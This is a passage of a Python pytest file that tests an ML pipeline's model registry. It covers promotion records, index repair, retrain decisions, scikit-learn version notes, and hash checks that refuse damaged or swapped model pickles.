) -> None:
    # Read as "no record", the version put in use by hand counted as promoted by the comparison,
    # and auto trained the settings rolled back from at once, silently undoing the rollback.
    first, second = _two_versions(paths)
    registry.put_in_use(paths, first["version"])
    record = paths.models / first["version"] / registry.PROMOTION_FILE
    record.write_text(damage, encoding="utf-8")
    profile = registry.training_settings({**PARAMS, "max_depth": 4}, DEGRADATION, signals=SIGNALS)  # B's settings
    with pytest.raises(registry.ModelIntegrityError) as damaged:
        registry.decide_training(paths, retrain="auto", settings=profile)
    message = str(damaged.value)
    assert message.startswith(f"The promotion record {record} of version {first['version']} is damaged")
    assert "restore it, or delete it" in message and _sentences(message) == 1
    record.unlink()  # the way out the message gives: then it is no version put in use by hand
    assert registry.decide_training(paths, retrain="auto", settings=profile)["train"]


def test_a_run_that_only_scores_rewrites_a_lost_or_hand_edited_registry_index(paths: config.RunPaths) -> None:
    # registry.json was written only when a version was trained or put in use: one naming a version
    # not on disk, or cut short, stayed so, and the dashboard's advice to re-run did not mend it.
    first, second = _two_versions(paths)
    index = paths.models / "registry.json"
    expected = runlog.read_json(index)
    for damage in ('{"current": "20260101-000000000000", "versions": []}', '{"cur', ""):
        index.write_text(damage, encoding="utf-8")
        registry.publish_reports(paths, registry.load_current(paths)[1], degradation=DEGRADATION)
        assert runlog.read_json(index) == expected


def test_a_version_saved_before_decisions_were_kept_is_not_said_to_have_lost_a_comparison(
    paths: config.RunPaths,
) -> None:
    # Versions saved before 2026-11-27 have no promotion.json: auto counts one with the profile's settings
    # as refused, and the run said "the holdout comparison kept the model in use", which never happened.
    first, second = _two_versions(paths)
    (paths.models / first["version"] / registry.PROMOTION_FILE).unlink()
    decision = registry.decide_training(paths, retrain="auto", settings=SETTINGS)
    assert not decision["train"]
    assert "holdout comparison kept" not in decision["reason"]
    assert f"version {first['version']} was trained with these settings before versions kept their promotion" in (
        decision["reason"])
    assert "model.retrain=always" in decision["reason"] and _sentences(decision["reason"]) == 1


def test_no_model_publishes_its_reason_and_no_metric_nor_ranking_of_an_earlier_run(paths: config.RunPaths) -> None:
    stale = [paths.reports / name for name in ("feature_importance.csv", "risk_ranking.csv", "model_curves.png")]
    for path in stale:
        path.write_text("old")
    registry.publish_no_model(paths, reason="none of its 9 training feature-days degrades.")
    assert runlog.read_json(paths.reports / "metrics.json") == {
        "available": False, "reason": "none of its 9 training feature-days degrades."}
    assert not any(path.exists() for path in stale)


def test_a_run_that_keeps_the_model_in_use_says_why_in_a_few_words(paths: config.RunPaths) -> None:
    # The runner's summary prints it; the full reason was only in 03_model's output.
    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    assert registry.decide_training(paths, retrain="auto", settings=SETTINGS)["kept"] == "same settings, retraining not advised before this run"
    assert registry.decide_training(paths, retrain="never", settings=SETTINGS)["kept"] == "model.retrain is 'never'"
    deeper = {**SETTINGS, "model": {**SETTINGS["model"], "max_depth": 4}}
    assert registry.decide_training(paths, retrain="never", settings=deeper)["kept"] == (
        "model.retrain is 'never'; trained with other settings: model.max_depth 10 -> 4")
    assert "kept" not in registry.decide_training(paths, retrain="always", settings=SETTINGS)


def test_a_model_saved_under_another_scikit_learn_loads_without_its_warnings_and_the_note_says_so(
    paths: config.RunPaths, monkeypatch: pytest.MonkeyPatch
) -> None:
    # After a scikit-learn upgrade of the lock, each daily run's 03_model printed three raw
    # InconsistentVersionWarnings ("Trying to unpickle estimator DecisionTreeClassifier from version
    # ...") into its output; the run now says it once in its own words (library_note).
    import hashlib
    import io
    import warnings

    import joblib
    import sklearn.base

    dataset = _dataset()
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    loaded, card = registry.load_current(paths)
    assert registry.library_note(card) == ""
    # scikit-learn stamps each estimator it pickles with this version, and warns when it differs on loading.
    monkeypatch.setattr(sklearn.base, "__version__", "0.0.1")
    buffer = io.BytesIO()
    joblib.dump(loaded, buffer)
    monkeypatch.undo()
    pickled = buffer.getvalue()
    (paths.models / registry.MODEL_FILE).write_bytes(pickled)
    card_path = paths.models / registry.CURRENT_CARD
    saved = {**card["library_versions"], "scikit-learn": "0.0.1"}
    runlog.write_json(card_path, {**card, "file_sha256": hashlib.sha256(pickled).hexdigest(), "library_versions": saved})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        _, card = registry.load_current(paths)
    now = registry.library_versions()["scikit-learn"]
    note = registry.library_note(card)
    assert note.startswith(f"Model {card['version']} was saved with scikit-learn 0.0.1 (now {now});")
    assert "model.retrain=always" in note and _sentences(note) == 1


def test_library_check_gives_the_model_in_use_s_changed_libraries_unless_a_newer_version_saved_here_is_not_in_use(
    paths: config.RunPaths, monkeypatch: pytest.MonkeyPatch
) -> None:
    # After an upgrade of the lock, model.retrain=auto kept the old pickle: 04_drift now checks the card's versions.
    here = registry.library_versions()
    older = {**here, "scikit-learn": "0.0.1"}
    dataset = _dataset()
    # The card as the registry writes it, under an older scikit-learn.
    monkeypatch.setattr(registry, "library_versions", lambda: older)
    registry.register(paths, _report(dataset), dataset, params=PARAMS, degradation=DEGRADATION)
    monkeypatch.undo()
    _, card = registry.load_current(paths)
    changed = [f"scikit-learn 0.0.1 (now {here['scikit-learn']})"]
    assert registry.library_check(card, newest=card) == {"library_changes": changed, "saved_here_not_in_use": None}
    # A newer version saved here that is not in use was compared with the model in use under these libraries.
    newer_here = {**card, "version": "20990101-000000000000", "library_versions": here}
    assert registry.library_check(card, newest=newer_here) == {"library_changes": changed,
                                                               "saved_here_not_in_use": "20990101-000000000000"}
    newer_elsewhere = {**newer_here, "library_versions": older}
    assert registry.library_check(card, newest=newer_elsewhere)["saved_here_not_in_use"] is None
    assert registry.library_check({**card, "library_versions": here}, newest=card)["library_changes"] == []
    # No model in use, or a card that records no versions: nothing to compare.
    assert registry.library_check({}, newest={}) == {"library_changes": None, "saved_here_not_in_use": None}
    bare = {k: v for k, v in card.items() if k != "library_versions"}
    assert registry.library_check(bare, newest=bare)["library_changes"] is None


@pytest.mark.parametrize(("card_text", "problem"), [
    (None, "its card {card} does not exist;"),
    ('{"file_sha', "its card {card} is not valid JSON (Unterminated string starting at: line 1, column 2);"),
    ("[]", "its card {card} is not a JSON object;"),
    ('{"version": "x"}', "its card {card} has no file_sha256;"),
    ('{"file_sha256": "abc"}', "its card {card} has file_sha256 'abc', not a sha256 (64 hex digits);"),
], ids=["missing", "cut", "list", "no-hash", "short-hash"])
def test_a_card_that_cannot_vouch_for_its_model_says_which_problem_it_has(
    tmp_path: Path, card_text: str | None, problem: str
) -> None:
    # "its card ... is missing, not valid JSON or has no file_sha256 (KeyError: 'file_sha256')" left the
    # user to guess which of the three, in Python's words.
    model_path, card_path = tmp_path / registry.MODEL_FILE, tmp_path / registry.CURRENT_CARD
    model_path.write_bytes(b"never unpickled")
    if card_text is not None:
        card_path.write_text(card_text, encoding="utf-8")
    with pytest.raises(registry.ModelIntegrityError) as refused:
        registry.load_model(model_path, card_path)
    message = str(refused.value)
    assert problem.format(card=card_path) in message
    assert message.endswith("restore both files or retrain with model.retrain=always, which replaces them.")
    assert not re.search(r"[A-Z]\w*Error", message) and _sentences(message) == 1


def test_a_vouched_file_that_holds_no_risk_model_is_refused_with_the_way_out(tmp_path: Path) -> None:
    # A model file swapped for another pickle together with its card's hash loads, but is no model.
    import joblib

    model_path, card_path = tmp_path / registry.MODEL_FILE, tmp_path / registry.CURRENT_CARD
    joblib.dump({"not": "a model"}, model_path)
    runlog.write_json(card_path, {"file_sha256": runlog.sha256_file(model_path)})
    with pytest.raises(registry.ModelIntegrityError) as refused:
        registry.load_model(model_path, card_path)
    assert str(refused.value) == (
        f"{model_path} does not hold a featurehealth RiskModel; retrain with model.retrain=always, which replaces it."
    )


def test_a_version_keeps_the_per_incident_table_and_lead_times_of_its_own_training_only(paths: config.RunPaths) -> None:
    dataset = _dataset()
    with_truth = _report(dataset)
    with_truth.incident_warnings = pd.DataFrame({"feature_id": ["a"], "lead_days": [2.0]})
    with_truth.metrics["early_warning"] = {"available": True, "lead_times_days": [2.0]}
    card = registry.save_version(paths, with_truth, params=PARAMS, degradation=DEGRADATION)
    reports = paths.models / card["version"] / registry.REPORTS_DIR
    table, lead_times = reports / "early_warning_incidents.csv", reports / "lead_times.png"
    assert pd.read_csv(table).to_dict("list") == {"feature_id": ["a"], "lead_days": [2.0]}
    assert lead_times.read_bytes().startswith(b"\x89PNG")
    # The same version saved again without ground truth leaves no stale table or figure behind.
    registry.save_version(paths, _report(dataset), params=PARAMS, degradation=DEGRADATION)
    assert not table.exists() and not lead_times.exists() and (reports / "model_curves.png").is_file()


def test_a_model_in_use_of_another_horizon_is_not_comparable() -> None:
    dataset = _dataset()
    report = _report(dataset)
    split = report.result.split
    card = {"horizon_days": PARAMS["horizon_days"] + 2, "training_window": {"end": "2026-01-10"}}
    other = registry.compare_on_holdout(
        report.result.model, (report.result.model, card), dataset, test_start=split.test_start,
        test_end=split.test_end, horizon_days=PARAMS["horizon_days"], min_positives=1, seed=7,
    )
    assert other == {"comparable": False,
                     "reason": f"the model in use predicts a {PARAMS['horizon_days'] + 2}-day horizon"}
